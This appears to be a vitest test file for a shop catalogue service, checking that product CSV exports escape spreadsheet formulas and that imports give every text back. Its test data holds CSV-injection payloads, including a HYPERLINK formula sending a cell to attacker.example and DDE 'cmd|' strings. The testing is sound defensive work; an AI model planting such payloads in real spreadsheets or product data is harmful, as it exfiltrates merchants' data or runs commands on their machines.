import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { escapeFormula, unescapeFormula } from '../../src/catalogue/products/csv-cells.ts';
import { importFile } from '../../src/catalogue/products/import.ts';
import { givenShop, givenToken } from '../builders.ts';
import { startService, type Service } from '../service.ts';

/*
 * An app that may write products calls one `=HYPERLINK(...)`. The merchant exports the products and opens the file in a
 * spreadsheet, which runs the formula and sends what stands beside it to the attacker.
 */

let service: Service;
let token: string;
let folder: string;

beforeAll(async () => {
  service = await startService();
  folder = await mkdtemp(path.join(tmpdir(), 'kontor-formulas-'));
  await givenShop(service, 'Harbour');
  token = await givenToken(service, 'Harbour');
});
afterAll(async () => {
  await service.close();
  await rm(folder, { recursive: true });
});

const call = (method: string, place: string, body?: unknown) =>
  service.call(method, `/Harbour${place}`, { token, body });

/** The cells of the file, by the number of the product and the key of the column. */
async function exported(): Promise<{ text: string; cell: (number: string, key: string) => string }> {
  const { text } = await call('GET', '/products/export');
  const [head, ...rows] = parse(text, { delimiter: ';' });
  const place = (key: string) => head!.findIndex((title) => title.endsWith(`[${key}]`));
  const row = (number: string) => rows.find((cells) => unescapeFormula(cells[place('Alias')]!) === number)!;
  return { text, cell: (number, key) => row(number)[place(key)]! };
}

const ATTACKS = [
  '=HYPERLINK("https://attacker.example/?"&A1;"Details")',
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];
/** What only looks like something that was escaped. */
const APOSTROPHES = ["'=x", "''=x", "'", "''", "'quoted'", "'+", "it's"];

test('no cell of an export is a formula, and an import gives every text back', async () => {
  const texts = [...ATTACKS, ...APOSTROPHES, 'Kettle', '5', '-5', '+49 40 123456'];
  for (const [index, text] of texts.entries()) {
    const { status } = await call('POST', '/products', {
      productNumber: `F${index}`,
      name: text,
      description: text,
      manufacturer: text,
      essentialFeatures: text,
      searchKeywords: [text.trim()],
      visible: true,
    });
    expect(status).toBe(201);
  }
  await call('POST', '/products', { productNumber: '=1+1', name: 'By its number', visible: true });
  const file = await exported();
  for (const [index, text] of texts.entries()) {
    for (const key of ['Name/en', 'Text/en', 'Manufacturer', 'MainCharacteristics/en', 'Keywords/en']) {
      const cell = file.cell(`F${index}`, key);
      expect(cell).not.toMatch(/^[=+\-@\t\r\n＝]/);
      if (key === 'Name/en') expect(unescapeFormula(cell)).toBe(text);
    }
  }
  expect(file.cell('=1+1', 'Alias')).toBe("'=1+1");
  expect(file.cell('F14', 'Name/en')).toBe('Kettle');

  const place = path.join(folder, 'all.csv');
  await writeFile(place, file.text);
  const options = { shopId: 'Harbour', visible: true };
  expect(await importFile(service.db, place, options)).toEqual({
    created: 0,
    changed: 0,
    unchanged: texts.length + 1,
    problems: [],
    newCategories: [],
  });

  // Into a shop that has none of them: the same texts, and so the same file.
  await givenShop(service, 'Quay');
  const quay = await givenToken(service, 'Quay');
  expect(await importFile(service.db, place, { ...options, shopId: 'Quay' })).toMatchObject({
    created: texts.length + 1,
    problems: [],
  });
  const copy = await service.call('GET', '/Quay/products/export', { token: quay });
  expect(copy.text.split('\n').toSorted()).toEqual(file.text.split('\n').toSorted());
});

test('a negative stock stays a number', async () => {
  const { body } = await call('POST', '/products', { productNumber: 'STOCK', name: 'x', visible: true });
  await call('PATCH', `/products/${body.productId}`, [{ op: 'add', path: '/stocklevel', value: -5 }]);
  expect((await exported()).cell('STOCK', 'StockLevel')).toBe('-5');
});

test('every text comes back', () => {
  const text = fc.string({
    unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '＝', 'x', ' ', '5'),
  });
  fc.assert(
    fc.property(fc.oneof(text, fc.string()), (cell) => {
      const escaped = escapeFormula(cell);
      expect(unescapeFormula(escaped)).toBe(cell);
      expect(escaped).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
    { numRuns: 2_000 },
  );
});
